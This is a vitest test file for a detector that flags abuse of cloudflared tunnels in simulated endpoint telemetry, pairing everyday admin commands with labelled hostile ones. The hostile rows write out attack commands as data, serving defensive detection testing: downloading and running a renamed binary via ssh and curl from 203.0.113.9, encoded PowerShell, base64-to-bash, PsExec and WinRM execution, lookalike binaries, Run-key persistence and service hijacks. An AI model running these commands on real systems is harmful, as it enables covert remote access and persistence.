import { describe, expect, test } from "vitest";
import { foreignToken as foreign, approvedToken as own } from "./generated-records.ts";
import { scale } from "./judged-case.ts";
import { seen } from "./starts.ts";

/** Labelled before they were first run: what somebody is told at most, or `ours`; and what they must be told at least. */
type Row = readonly [title: string, record: Seen, bound?: string];
type Seen = readonly [table: string, columns: Readonly<Record<string, unknown>>];

const X = "/usr/local/bin/cloudflared";
const W = "C:\\Program Files\\cloudflared\\cloudflared.exe";
const Wu = "C:\\Users\\a\\cloudflared.exe";
const base64 = (text: string): string => Buffer.from(text).toString("base64");
const wide = (text: string): string => Buffer.from(text, "utf16le").toString("base64");
const nameOf = (path: string): string => path.slice(Math.max(path.lastIndexOf("/"), path.lastIndexOf("\\")) + 1);
const ev = (table: string, columns: Readonly<Record<string, unknown>>): Seen => [table, columns];

/** `parent` is its path, and behind a bar its command line. */
function proc(path: string, line: string, parent = "", more: Readonly<Record<string, unknown>> = {}): Seen {
	const [actor = "", actorLine = actor] = parent.split("|");
	const by = { InitiatingProcessFileName: nameOf(actor), InitiatingProcessFolderPath: actor, InitiatingProcessCommandLine: actorLine };
	const columns = { ActionType: "ProcessCreated", FileName: nameOf(path), FolderPath: path, ProcessCommandLine: line };
	return ev("DeviceProcessEvents", { ...columns, ...(parent === "" ? {} : by), ...more });
}

const cmd = (script: string): Seen => proc("C:\\Windows\\System32\\cmd.exe", `cmd.exe /c ${script}`);
const powershellExe = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const ps = (script: string): Seen => proc(powershellExe, script.startsWith("powershell") ? script : `powershell.exe -c "${script}"`);
const sh = (script: string): Seen => proc("/usr/bin/bash", script.includes("'") ? `bash -c "${script}"` : `bash -c '${script}'`);
const lx = (path: string, line: string, more: Readonly<Record<string, unknown>> = {}): Seen => proc(path, line, "", more);

function net(path: string, line: string, RemoteUrl: string, RemotePort = 443, RemoteIP = "203.0.113.5"): Seen {
	const by = { InitiatingProcessFileName: nameOf(path), InitiatingProcessFolderPath: path, InitiatingProcessCommandLine: line };
	return ev("DeviceNetworkEvents", { ActionType: "ConnectionSuccess", RemoteUrl, RemotePort, RemoteIP, ...by });
}

function file(FileName: string, folder: string, by: string): Seen {
	const actor = { InitiatingProcessFileName: by, InitiatingProcessCommandLine: by };
	return ev("DeviceFileEvents", { ActionType: "FileCreated", FileName, FolderPath: folder + FileName, ...actor });
}

function de(ActionType: string, fields: Readonly<Record<string, string>>): Seen {
	const actor = { InitiatingProcessFileName: "powershell.exe", InitiatingProcessFolderPath: powershellExe };
	return ev("DeviceEvents", { ActionType, AdditionalFields: JSON.stringify(fields), ...actor });
}

const everyday: readonly Row[] = [
	[
		"dev quick tunnel",
		proc(
			"C:\\Users\\a\\scoop\\apps\\cloudflared\\current\\cloudflared.exe",
			"cloudflared.exe tunnel --url http://localhost:3000",
			"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
		),
	],
	["dev quick brew", lx("/opt/homebrew/bin/cloudflared", "cloudflared tunnel --url localhost:5173 --no-autoupdate")],
	[
		"vite plugin",
		lx(
			"/Users/a/p/node_modules/cloudflared/bin/cloudflared",
			"/Users/a/p/node_modules/cloudflared/bin/cloudflared tunnel --url http://localhost:5173",
		),
	],
	["access ssh proxy", lx("/usr/bin/ssh", `ssh -o ProxyCommand="cloudflared access ssh --hostname %h" git.example.com`), "low"],
	["access rdp", proc(W, `"${W}" access rdp --hostname rdp.example.com --url rdp://localhost:3390`), "low"],
	["access tcp db", lx("/opt/homebrew/bin/cloudflared", "cloudflared access tcp --hostname db.example.com --url 127.0.0.1:5432"), "low"],
	["access smb", proc(W, "cloudflared access smb --hostname files.example.com --url localhost:8445"), "low"],
	["access login", lx(X, "cloudflared access login https://app.example.com"), "low"],
	["access curl", sh("cloudflared access curl https://api.example.com/v1/health -H accept:application/json"), "low"],
	[
		"access token in env",
		sh("export TOKEN=$(cloudflared access token -app=https://app.example.com); curl -H cf-access-token:$TOKEN https://app.example.com"),
		"low",
	],
	["ssh-config", lx(X, "cloudflared access ssh-config --hostname vm.example.com --short-lived-cert"), "low"],
	["proxy-dns", lx(X, "cloudflared proxy-dns --port 5053 --upstream https://1.1.1.1/dns-query"), "medium"],
	["proxy-dns systemd", lx("/usr/bin/systemctl", "systemctl restart cloudflared-proxy-dns"), "low"],
	["docker ps grep", sh("docker ps | grep cloudflared"), "low"],
	["docker logs", lx("/usr/bin/docker", "docker logs -f cloudflared"), "low"],
	["docker pull", lx("/usr/bin/docker", "docker pull cloudflare/cloudflared:2026.8.2"), "low"],
	["docker compose up", lx("/usr/bin/docker", "docker compose -f docker-compose.cloudflared.yml up -d"), "low"],
	[
		"docker run approved",
		lx("/usr/bin/docker", `docker run -d --name cf --network web cloudflare/cloudflared:latest tunnel --no-autoupdate run --token ${own}`),
		"ours",
	],
	[
		"podman quadlet",
		lx(
			"/usr/bin/podman",
			`podman run --rm --replace --name cloudflared docker.io/cloudflare/cloudflared:latest tunnel --no-autoupdate run --token ${own}`,
		),
		"ours",
	],
	["docker exec version", lx("/usr/bin/docker", "docker exec cf cloudflared version"), "low"],
	["kubectl get", lx("/usr/bin/kubectl", "kubectl -n edge get pods -l app=cloudflared"), "low"],
	["kubectl rollout", lx("/usr/bin/kubectl", "kubectl rollout restart deployment/cloudflared -n edge"), "low"],
	[
		"kubectl secret",
		lx("/usr/bin/kubectl", `kubectl create secret generic tunnel-token --from-literal=token=${own} -n cloudflared`),
		"low",
	],
	[
		"helm",
		lx("/usr/bin/helm", `helm upgrade --install cloudflared cloudflare/cloudflare-tunnel-remote --set cloudflare.tunnel_token=${own}`),
		"low",
	],
	["brew upgrade", lx("/opt/homebrew/bin/brew", "brew upgrade cloudflared"), "low"],
	["brew services", lx("/bin/bash", "/bin/bash /opt/homebrew/Library/Homebrew/brew.sh services restart cloudflared"), "low"],
	[
		"winget upgrade",
		proc("C:\\Users\\a\\AppData\\Local\\Microsoft\\WindowsApps\\winget.exe", "winget upgrade --id Cloudflare.cloudflared --silent"),
		"low",
	],
	["choco", proc("C:\\ProgramData\\chocolatey\\bin\\choco.exe", "choco upgrade cloudflared -y"), "low"],
	["apt", lx("/usr/bin/apt-get", "apt-get install --only-upgrade -y cloudflared"), "low"],
	["dpkg -i", lx("/usr/bin/dpkg", "dpkg -i cloudflared-linux-amd64.deb"), "low"],
	[
		"apt key",
		sh(
			"curl -fsSL https://pkg.cloudflare.com/cloudflare-main.gpg | tee /usr/share/keyrings/cloudflare-main.gpg; apt-get install cloudflared",
		),
		"low",
	],
	["msi", proc("C:\\Windows\\System32\\msiexec.exe", "msiexec.exe /i cloudflared-windows-amd64.msi /qn"), "low"],
	[
		"intune ps",
		ps(`Start-Process msiexec -ArgumentList '/i cloudflared-windows-amd64.msi /qn' -Wait; & '${W}' service install ${own}`),
		"ours",
	],
	["approved, in use for RDP", net(W, `"${W}" tunnel run --token ${own}`, "", 3389, "10.0.0.5"), "ours"],
	["a download folder's tunnel, in use for the web", net(Wu, "cloudflared.exe tunnel run --token-file t", "", 8080, "127.0.0.1"), "medium"],
	[
		"a service of the usual place, in use for RDP",
		ev("DeviceNetworkEvents", {
			...{ ActionType: "ConnectionSuccess", RemotePort: 3389, RemoteIP: "127.0.0.1", InitiatingProcessParentFileName: "services.exe" },
			...{ InitiatingProcessFileName: "cloudflared.exe", InitiatingProcessFolderPath: W },
			InitiatingProcessCommandLine: `"${W}" tunnel run --token-file C:\\ProgramData\\cloudflared\\token`,
		}),
		"medium",
	],
	["service install approved", proc(W, `"${W}" service install ${own}`), "ours"],
	["sudo service install approved", lx("/usr/bin/sudo", `sudo cloudflared service install ${own}`), "ours"],
	[
		"cloud-init",
		sh(
			`curl -L --output /tmp/cloudflared.deb https://github.com/cloudflare/cloudflared/releases/latest/download/cloudflared-linux-amd64.deb && dpkg -i /tmp/cloudflared.deb && cloudflared service install ${own}`,
		),
		"ours",
	],
	["vim config", lx("/usr/bin/vim", "vim /etc/cloudflared/config.yml"), "low"],
	[
		"code open",
		proc("C:\\Users\\a\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe", `"Code.exe" C:\\src\\docs\\cloudflared-tunnel-run.md`),
		"low",
	],
	["notepad", proc("C:\\Windows\\System32\\notepad.exe", "notepad.exe C:\\Users\\a\\.cloudflared\\config.yml"), "low"],
	["grep docs", lx("/usr/bin/grep", `grep -rn "cloudflared tunnel run --token" docs/`), "low"],
	["rg", lx("/usr/bin/rg", "rg cloudflared --glob *.tf"), "low"],
	["findstr", cmd("findstr /s /i cloudflared *.ps1"), "low"],
	["git commit", lx("/usr/bin/git", `git commit -m "docs: how to run cloudflared tunnel run --token <TOKEN>"`), "low"],
	["git clone", lx("/usr/bin/git", "git clone https://github.com/cloudflare/cloudflared.git"), "low"],
	["go build", lx("/usr/local/go/bin/go", "go test ./cmd/cloudflared/tunnel -run TestTunnelRun"), "low"],
	["make", lx("/usr/bin/make", "make cloudflared"), "low"],
	["man", lx("/usr/bin/man", "man cloudflared"), "low"],
	["echo hint", sh(`echo "Start with: cloudflared tunnel run --token <your token>"`), "low"],
	["heredoc README", sh("cat > README.md <<EOF\nRun it:\ncloudflared tunnel --url http://localhost:8080\nEOF"), "medium"],
	["ansible", lx("/usr/bin/ansible-playbook", "ansible-playbook -i hosts site.yml --tags cloudflared --limit edge"), "low"],
	[
		"ansible shell",
		lx("/usr/bin/python3", "/usr/bin/python3 /root/.ansible/tmp/ansible-tmp-1/AnsiballZ_systemd.py name=cloudflared state=started"),
		"low",
	],
	["terraform", lx("/usr/bin/terraform", "terraform apply -target=cloudflare_zero_trust_tunnel_cloudflared.main"), "low"],
	["monitor list", lx(X, "cloudflared tunnel list --output json"), "low"],
	["monitor info", lx(X, "cloudflared tunnel info web"), "low"],
	["monitor version", proc(W, `"${W}" --version`, "C:\\Program Files\\Zabbix Agent\\zabbix_agentd.exe"), "low"],
	["monitor metrics curl", lx("/usr/bin/curl", "curl -s http://127.0.0.1:20241/ready"), "none"],
	["nagios pgrep", lx("/usr/bin/pgrep", "pgrep -f cloudflared tunnel run"), "low"],
	["check_procs", lx("/usr/lib/nagios/plugins/check_procs", `check_procs -c 1: -a "cloudflared tunnel run"`), "low"],
	["wmi query", ps(`Get-CimInstance Win32_Service -Filter \\"Name='Cloudflared'\\" | Select State`), "low"],
	["edr uninstall", proc(W, `"${W}" service uninstall`), "low"],
	["edr remove", ps(`Stop-Service Cloudflared; sc.exe delete Cloudflared; Remove-Item '${W}' -Force`), "low"],
	["taskkill", cmd("taskkill /f /im cloudflared.exe"), "low"],
	["sc query", cmd("sc query cloudflared"), "low"],
	["net stop", cmd("net stop cloudflared && net start cloudflared"), "low"],
	[
		"systemd unit",
		lx(X, "/usr/local/bin/cloudflared --no-autoupdate tunnel run --token-file /etc/cloudflared/token", {
			InitiatingProcessFileName: "systemd",
			InitiatingProcessFolderPath: "/usr/lib/systemd/systemd",
		}),
		"medium",
	],
	["windows svc approved", proc(W, `"${W}" tunnel run --token ${own}`, "C:\\Windows\\System32\\services.exe"), "ours"],
	[
		"windows svc approved flags",
		proc(
			W,
			`"${W}" --loglevel debug --logfile C:\\ProgramData\\cloudflared\\cf.log tunnel --metrics localhost:2000 run --protocol http2 --token ${own}`,
			"C:\\Windows\\System32\\services.exe",
		),
		"ours",
	],
	[
		"login create route",
		sh("cloudflared tunnel login && cloudflared tunnel create web && cloudflared tunnel route dns web app.example.com"),
		"low",
	],
	["named by config", lx(X, "cloudflared tunnel --config /etc/cloudflared/config.yml run web"), "medium"],
	["ci npx", lx("/usr/bin/npx", "npx --yes cloudflared tunnel --url http://localhost:4173"), "medium"],
	["ci env approved", sh(`TZ=UTC CI=true cloudflared tunnel --no-autoupdate run --token ${own}`), "ours"],
	["ci timeout approved", lx("/usr/bin/timeout", `timeout 600 ${X} tunnel run --token ${own}`), "ours"],
	["nohup approved", sh(`nohup ${X} tunnel run --token ${own} > /var/log/cf.log 2>&1 &`), "ours"],
	["wrangler tail", lx("/usr/bin/node", "node /usr/bin/wrangler dev --remote"), "none"],
	[
		"docker desktop edge",
		net(
			"C:\\Program Files\\Docker\\Docker\\resources\\com.docker.backend.exe",
			"com.docker.backend.exe",
			"region1.v2.argotunnel.com",
			7844,
			"198.41.192.7",
		),
		"medium",
	],
	["cf edge", net(W, `"${W}" tunnel run --token ${own}`, "region1.v2.argotunnel.com", 7844, "198.41.192.7"), "ours"],
	["update check", net(W, `"${W}" tunnel run --token ${own}`, "update.argotunnel.com"), "ours"],
	["file word", file("how-to-cloudflared.docx", "C:\\Users\\a\\Documents\\", "winword.exe"), "low"],
	["file sbom", file("cloudflared-sbom.json", "/srv/ci/", "python3"), "low"],
	["zip logs", file("cloudflared-logs.zip", "C:\\Users\\a\\Downloads\\", "msedge.exe"), "low"],
	["script block info", de("PowerShellCommand", { Command: "Get-Service Cloudflared | Restart-Service" }), "low"],
	[
		"scheduled update",
		de("ScheduledTaskCreated", {
			TaskContent: "<Task><Exec><Command>winget.exe</Command><Arguments>upgrade Cloudflare.cloudflared</Arguments></Exec></Task>",
		}),
		"medium",
	],
	[
		"az bastion",
		lx("/usr/bin/az", "az network bastion tunnel --name b --resource-group rg --target-resource-id x --resource-port 22 --port 2222"),
		"none",
	],
	["minikube", lx("/usr/bin/minikube", "minikube tunnel --cleanup"), "none"],
	["ssh -L", lx("/usr/bin/ssh", "ssh -N -L 5432:db:5432 tunnel@bastion run"), "none"],
	[
		"npm run tunnel",
		proc("C:\\Program Files\\nodejs\\node.exe", `"node.exe" npm-cli.js run tunnel -- --token abc123 --url http://localhost:3000`),
		"low",
	],
	["pytest tunnel", lx("/usr/bin/python3", "python3 -m pytest tests/tunnel/test_run.py -k token --config ci.yml"), "low"],
	["saucectl", lx("/usr/bin/sc", "sc run --tunnel-name t1 --config-file sc.yml"), "low"],
	["jetbrains", proc("C:\\Program Files\\JetBrains\\idea64.exe", `"idea64.exe" C:\\src\\tunnel\\run.iml --token-file x`), "low"],
	["claude code", lx("/usr/bin/claude", `claude -p "explain cloudflared tunnel run --token"`), "low"],
];

const hostile: readonly Row[] = [
	[
		"a container's name like the image",
		lx("/usr/bin/docker", `docker run --label cloudflared evil/image tunnel run --token ${own}`),
		"low",
	],
	["foreign token svc", proc(W, `"${W}" tunnel run --token ${foreign}`, "C:\\Windows\\System32\\services.exe"), "high"],
	["decoy label", proc(W, `"${W}" tunnel --label ${own} run --token ${foreign}`), "high"],
	["decoy logfile", proc(W, `"${W}" --logfile ${own} tunnel run --token ${foreign}`), "high"],
	["decoy tag", lx(X, `cloudflared tunnel --tag a=${own} run --token ${foreign}`), "high"],
	["two tokens", lx(X, `cloudflared tunnel run --token ${own} --token ${foreign}`), "high"],
	["two tokens reversed", lx(X, `cloudflared tunnel run --token ${foreign} --token=${own}`), "medium"],
	["token env+file", sh(`TUNNEL_TOKEN=${own} cloudflared tunnel run --token-file /tmp/.t`), "medium"],
	["env foreign + file", sh(`TUNNEL_TOKEN=${foreign} cloudflared tunnel run --token-file /etc/cloudflared/token`), "high"],
	["positional decoy", lx(X, `cloudflared tunnel run --token ${foreign} ${own}`), "high"],
	["empty token then file", lx(X, `cloudflared tunnel run --token "" --token-file /tmp/t`), "medium"],
	["config elsewhere", lx(X, `cloudflared --config /dev/shm/.c.yml tunnel run --token ${own}`), "low"],
	["config elsewhere named", lx(X, `cloudflared --config /tmp/c.yml tunnel run web`), "medium"],
	[
		"cred-file elsewhere",
		proc(W, `"${W}" tunnel run --credentials-file C:\\Users\\Public\\c.json 9a3c51d7-08be-4f62-a7d1-63e04b9f2c85`),
		"medium",
	],
	[
		"cred contents foreign",
		lx(
			X,
			`cloudflared tunnel run --credentials-contents {"AccountTag":"d94e1b7a3c5f48208e6d0b9a7f2c4e13","TunnelID":"4e8b2d60-7c15-49a3-8f0e-d1b6a5c39e72","TunnelSecret":"eA=="}`,
		),
		"high",
	],
	[
		"lookalike cloudfIared",
		proc("C:\\Program Files\\cloudflared\\cloudfIared.exe", `cloudfIared.exe tunnel run --token ${foreign}`),
		"high",
	],
	["homoglyph", proc("C:\\Program Files\\cloudflared\\cl\u043eudflared.exe", `cl\u043eudflared.exe tunnel run --token ${own}`), "high"],
	["zero width", proc("C:\\ProgramData\\cloud\u200bflared.exe", `cloud\u200bflared.exe tunnel run --token ${foreign}`), "high"],
	["cloudflared-svc", proc("C:\\ProgramData\\cloudflared-svc.exe", `cloudflared-svc.exe tunnel run --token ${own}`), "low"],
	["dir named cloudflared", proc("C:\\Users\\Public\\cloudflared\\svchost.exe", `svchost.exe tunnel run --token ${own}`), "high"],
	["ADS", proc("C:\\Users\\a\\n.txt:cloudflared.exe", `C:\\Users\\a\\n.txt:cloudflared.exe tunnel run --token ${own}`), "low"],
	["UNC", proc("\\\\files\\it\\cloudflared.exe", `\\\\files\\it\\cloudflared.exe tunnel run --token ${own}`), "low"],
	[
		"WebDAV",
		proc(
			"\\\\evil.example.com@SSL\\DavWWWRoot\\cloudflared.exe",
			`\\\\evil.example.com@SSL\\DavWWWRoot\\cloudflared.exe tunnel run --token ${own}`,
		),
		"low",
	],
	["8.3 in public", proc("C:\\Users\\Public\\CLOUDF~1.EXE", `C:\\Users\\Public\\CLOUDF~1.EXE tunnel run --token ${own}`), "low"],
	[
		"8.3 foreign",
		proc("C:\\PROGRA~1\\CLOUDF~1\\CLOUDF~1.EXE", `C:\\PROGRA~1\\CLOUDF~1\\CLOUDF~1.EXE tunnel run --token ${foreign}`),
		"high",
	],
	["slashes", cmd(`C:/Users/Public/cloudflared.exe tunnel run --token ${own}`), "low"],
	["slashes foreign", cmd(`C:/tmp/u.exe tunnel run --token ${foreign}`), "high"],
	[
		"dotdot",
		proc("C:\\Program Files\\cloudflared\\..\\..\\Users\\Public\\cloudflared.exe", `cloudflared.exe tunnel run --token ${own}`),
		"low",
	],
	["carets", cmd(`c^lo^udfl^ared t^unn^el r^un --to^ken ${foreign}`), "high"],
	["quotes inside", cmd(`"C:\\t"mp"\\u.exe" tun"nel" r""un --to"ken" ${foreign}`), "low"],
	["sh quotes", sh(`/tmp/u tun"nel" ru"n" --tok"en" ${foreign}`), "high"],
	["sh backslash", sh(`/tmp/u t\\unnel r\\un --to\\ken ${foreign}`), "high"],
	["ps backtick", ps(`C:\\tmp\\u.exe tun\`nel ru\`n --tok\`en ${foreign}`), "high"],
	["unicode dash", proc("C:\\tmp\\u.exe", `u.exe tunnel run \u2013token ${foreign}`), "low"],
	["one dash", proc("C:\\tmp\\u.exe", `u.exe tunnel run -token ${foreign}`), "high"],
	["eq", proc("C:\\tmp\\u.exe", `u.exe tunnel run -token=${foreign}`), "high"],
	["tabs", proc("C:\\tmp\\u.exe", `u.exe\ttunnel\trun\t--token\t${foreign}`), "high"],
	["nbsp", sh(`/tmp/u tunnel run\u00a0--token ${foreign}; cloudflared tunnel run --token ${own}`), "low"],
	["padding", proc("C:\\tmp\\u.exe", `u.exe tunnel ${" ".repeat(30000)} run --token ${foreign}`), "high"],
	["padding labels", proc("C:\\tmp\\u.exe", `u.exe tunnel ${"--label a ".repeat(2000)} run --token ${foreign}`), "high"],
	[
		"padding between two tokens",
		lx(X, `cloudflared tunnel run --token ${foreign} ${"--http-host-header a ".repeat(5_000)}--token ${own}`),
		"high",
	],
	["padding behind", proc(W, `"${W}" tunnel run --token ${foreign} ${" ".repeat(60000)}`), "high"],
	["ps enc foreign", ps(`powershell -w hidden -enc ${wide(`& 'C:\\ProgramData\\u.exe' tunnel run --token ${foreign}`)}`), "high"],
	[
		"ps enc approved behind",
		ps(`powershell -w hidden -enc ${wide(`& 'C:\\ProgramData\\u.exe' tunnel run --token-file C:\\t; & '${W}' tunnel run --token ${own}`)}`),
		"medium",
	],
	["b64 sh", sh(`echo ${base64(`/tmp/u tunnel run --token ${foreign}`)} | base64 -d | bash`), "high"],
	[
		"remote ssh foreign",
		lx(
			"/usr/bin/ssh",
			`ssh root@10.0.0.5 "curl -so /tmp/u http://203.0.113.9/u; chmod +x /tmp/u; nohup /tmp/u tunnel run --token ${foreign} &"`,
		),
		"high",
	],
	["psexec", proc("C:\\t\\PsExec64.exe", `PsExec64.exe \\\\dc01 -s cmd /c "C:\\Windows\\Temp\\u.exe service install ${foreign}"`), "high"],
	["winrm icm", ps(`Invoke-Command -ComputerName dc01 -ScriptBlock { C:\\tmp\\u.exe tunnel run --token ${foreign} }`), "high"],
	["own acct exposes ssh", lx(X, `cloudflared tunnel --url ssh://localhost:22 run --token ${own}`), "medium"],
	["own acct bastion", lx(X, `cloudflared tunnel --bastion run --token ${own}`), "medium"],
	["own acct socks", lx(X, `cloudflared tunnel --socks5 --url tcp://0.0.0.0:1080 run --token ${own}`), "medium"],
	["own acct url rdp inner", proc(W, `"${W}" tunnel run --url rdp://localhost:3389 --token ${own}`), "medium"],
	["quick beside approved", sh(`cloudflared tunnel run --token ${own} & cloudflared tunnel --url ssh://localhost:22`), "high"],
	["quick beside approved cmd", cmd(`start /b "" "${W}" tunnel run --token ${own} & "${W}" tunnel --url rdp://localhost:3389`), "high"],
	["quick with decoy token", proc(Wu, `cloudflared.exe tunnel --url rdp://127.0.0.1:3389 --label ${own}`), "high"],
	["tunnel token wrong level", lx(X, `cloudflared tunnel --token ${own} --url rdp://localhost:3389`), "low"],
	["hostname override", lx(X, `cloudflared tunnel --url http://localhost --hostname evil.example.net --name x`), "medium"],
	["quick-service", lx(X, `cloudflared tunnel --url http://localhost:80 --quick-service https://203.0.113.9`), "high"],
	["edge", lx(X, `cloudflared tunnel --edge 203.0.113.9:7844 run --token ${own}`), "high"],
	["edge= protocol", lx(X, `cloudflared --edge=203.0.113.9:7844 --protocol http2 tunnel run --token ${own}`), "high"],
	["cacert", lx(X, `cloudflared tunnel --cacert /tmp/ca.pem run --token ${own}`), "high"],
	["api-url", lx(X, `cloudflared tunnel --api-url https://203.0.113.9 run --token ${own}`), "high"],
	["service arg replace", cmd(`sc start cloudflared tunnel --url rdp://localhost:3389`), "high"],
	["ps start service args", ps(`(Get-Service cloudflared).Start(@('tunnel','--url','rdp://localhost:3389'))`), "high"],
	[
		"service imagepath",
		ev("DeviceRegistryEvents", {
			ActionType: "RegistryValueSet",
			RegistryKey: "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\Cloudflared",
			RegistryValueName: "ImagePath",
			RegistryValueData: `"C:\\ProgramData\\u.exe" tunnel run --token ${own}`,
			PreviousRegistryValueData: `"${W}" tunnel run --token ${own}`,
			InitiatingProcessFileName: "services.exe",
		}),
		"high",
	],
	[
		"prev value decoy",
		ev("DeviceRegistryEvents", {
			ActionType: "RegistryValueSet",
			RegistryKey: "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\Cloudflared",
			RegistryValueName: "ImagePath",
			RegistryValueData: `"${W}" tunnel run --token ${foreign}`,
			PreviousRegistryValueData: `"${W}" tunnel run --token ${own}`,
			InitiatingProcessFileName: "services.exe",
		}),
		"high",
	],
	[
		"run key hidden vbs",
		ev("DeviceRegistryEvents", {
			ActionType: "RegistryValueSet",
			RegistryKey: "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
			RegistryValueName: "Updater",
			RegistryValueData: `C:\\Users\\Public\\u.exe tunnel run --token ${foreign}`,
			InitiatingProcessFileName: "reg.exe",
		}),
		"high",
	],
	["launchd", lx("/bin/launchctl", `launchctl submit -l com.apple.upd -- /tmp/u tunnel run --token ${foreign}`), "high"],
	["renamed no token rdp", proc("C:\\ProgramData\\svc.exe", `svc.exe tunnel --url rdp://127.0.0.1:3389`), "high"],
	["renamed root rdp", proc("C:\\ProgramData\\svc.exe", `svc.exe --url rdp://127.0.0.1:3389`), "high"],
	["renamed root tcp", proc("C:\\ProgramData\\svc.exe", "svc.exe --url tcp://127.0.0.1:3389"), "high"],
	["a variable in front names the target", sh("TUNNEL_URL=ssh://localhost:22 /opt/x tunnel"), "high"],
	["a variable of PowerShell names the target", ps("$env:TUNNEL_URL='rdp://localhost:3389'; C:\\ProgramData\\x.exe tunnel"), "high"],
	[
		"a service, flags first",
		proc("C:\\Windows\\System32\\sc.exe", 'sc create u binPath= "C:\\ProgramData\\u.exe --config C:\\c.yml tunnel run"'),
		"medium",
	],
	["somebody came in to RDP", net(Wu, "cloudflared.exe tunnel run --token-file t", "", 3389, "127.0.0.1"), "high"],
	["somebody came in to WinRM of another device", net(Wu, "cloudflared.exe tunnel run x", "", 5985, "::ffff:10.1.2.3"), "high"],
	[
		"a label in front of a request for help",
		proc("C:\\Program Files\\cloudflared\\node", `node --label cloudflared tunnel --help run --token ${own}`),
		"medium",
	],
	["renamed service install", proc("C:\\ProgramData\\svc.exe", `svc.exe service install ${foreign}`), "high"],
	["renamed token-file", proc("C:\\ProgramData\\svc.exe", `svc.exe tunnel --no-autoupdate run --token-file C:\\ProgramData\\t`), "high"],
	[
		"dup key token",
		lx(
			X,
			`cloudflared tunnel run --token ${Buffer.from(`{"a":"d94e1b7a3c5f48208e6d0b9a7f2c4e13","A":"2b7f0c9d4e1a48639d05f7c2a8b61e34","t":"9a3c51d7-08be-4f62-a7d1-63e04b9f2c85","s":"SU5WRU5URUQ="}`).toString("base64")}`,
		),
		"low",
	],
	[
		"own account other tunnel",
		lx(
			X,
			`cloudflared tunnel run --token ${Buffer.from(`{"a":"2b7f0c9d4e1a48639d05f7c2a8b61e34","t":"11111111-2222-4333-8444-555555555555","s":"SU5WRU5URUQ="}`).toString("base64")}`,
		),
		"low",
	],
	["uuid beside", lx(X, `cloudflared tunnel run --token ${own} 4e8b2d60-7c15-49a3-8f0e-d1b6a5c39e72`), "low"],
	["container foreign", lx("/usr/bin/docker", `docker run -d --net host cloudflare/cloudflared tunnel run --token ${foreign}`), "high"],
	["container mirror approved", lx("/usr/bin/docker", `docker run -d evil/cloudflared tunnel run --token ${own}`), "low"],
	["container env foreign", lx("/usr/bin/docker", `docker run -d -e TUNNEL_TOKEN=${foreign} cloudflare/cloudflared tunnel run`), "high"],
	[
		"container decoy label",
		lx("/usr/bin/docker", `docker run -d --label t=${own} -e TUNNEL_TOKEN=${foreign} cloudflare/cloudflared tunnel run`),
		"high",
	],
	["comment decoy", sh(`/tmp/u tunnel run --token ${foreign} # cloudflared tunnel run --token ${own}`), "high"],
	["rem decoy", cmd(`C:\\tmp\\u.exe tunnel run --token ${foreign} & rem cloudflared tunnel run --token ${own}`), "high"],
	[
		"parent decoy",
		proc("C:\\tmp\\u.exe", `u.exe tunnel run --token ${foreign}`, `C:\\Windows\\System32\\cmd.exe|cmd /c "${W}" tunnel run --token ${own}`),
		"high",
	],
	["file of the name, other argv0", proc(W, `svchost.exe tunnel run --token ${own}`), "medium"],
	["file of the name, other argv0, Linux", lx(X, `[kworker/0:1] tunnel run --token ${own}`), "medium"],
	["own acct socks, no target", lx(X, `cloudflared tunnel run --socks5 --token ${own}`), "medium"],
	["pretends argv0", proc("C:\\Windows\\Temp\\svch0st.exe", `cloudflared tunnel run --token ${own}`), "high"],
	["node as tool", proc("C:\\Program Files\\nodejs\\node.exe", `node.exe tunnel run --token ${foreign}`), "high"],
	[
		"edge conn by svchost copy",
		net("C:\\ProgramData\\svchost.exe", "svchost.exe", "region2.v2.argotunnel.com", 7844, "198.41.200.13"),
		"high",
	],
	["foreign edge conn", net(W, `"${W}" tunnel run --token ${own}`, "", 7844, "203.0.113.9"), "high"],
	[
		"webdav delivery",
		proc(
			"C:\\Windows\\System32\\rundll32.exe",
			`rundll32.exe davclnt.dll,DavSetCookie a-b-c.trycloudflare.com@SSL http://a-b-c.trycloudflare.com/DavWWWRoot/x.lnk`,
		),
		"high",
	],
	[
		"download renamed",
		ps(
			`iwr https://github.com/cloudflare/cloudflared/releases/latest/download/cloudflared-windows-amd64.exe -OutFile C:\\Users\\Public\\svc.exe; C:\\Users\\Public\\svc.exe tunnel --url rdp://localhost:3389`,
		),
		"high",
	],
	[
		"ps copied and run",
		ps(
			`Copy-Item '${W}' C:\\ProgramData\\svc.exe; Start-Process C:\\ProgramData\\svc.exe -ArgumentList 'tunnel run --token ${foreign}' -WindowStyle Hidden`,
		),
		"high",
	],
];

describe("everyday life is not loud", () => {
	test.for(everyday)("%s", ([, [table, columns], most = "medium"]) => {
		const sighting = seen(table, columns);
		if (most === "ours") expect(sighting?.ownership.verdict).toBe("ours");
		else expect(scale.indexOf(told(sighting))).toBeLessThanOrEqual(scale.indexOf(most));
	});
});

describe("an intruder is told, and is never ours", () => {
	test.for(hostile)("%s", ([, [table, columns], least = "low"]) => {
		const sighting = seen(table, columns);
		expect(sighting?.ownership.verdict).not.toBe("ours");
		expect(scale.indexOf(told(sighting))).toBeGreaterThanOrEqual(scale.indexOf(least));
	});
});

function told(sighting: ReturnType<typeof seen>): string {
	return sighting === undefined || sighting.quiet !== undefined ? "none" : sighting.severity;
}
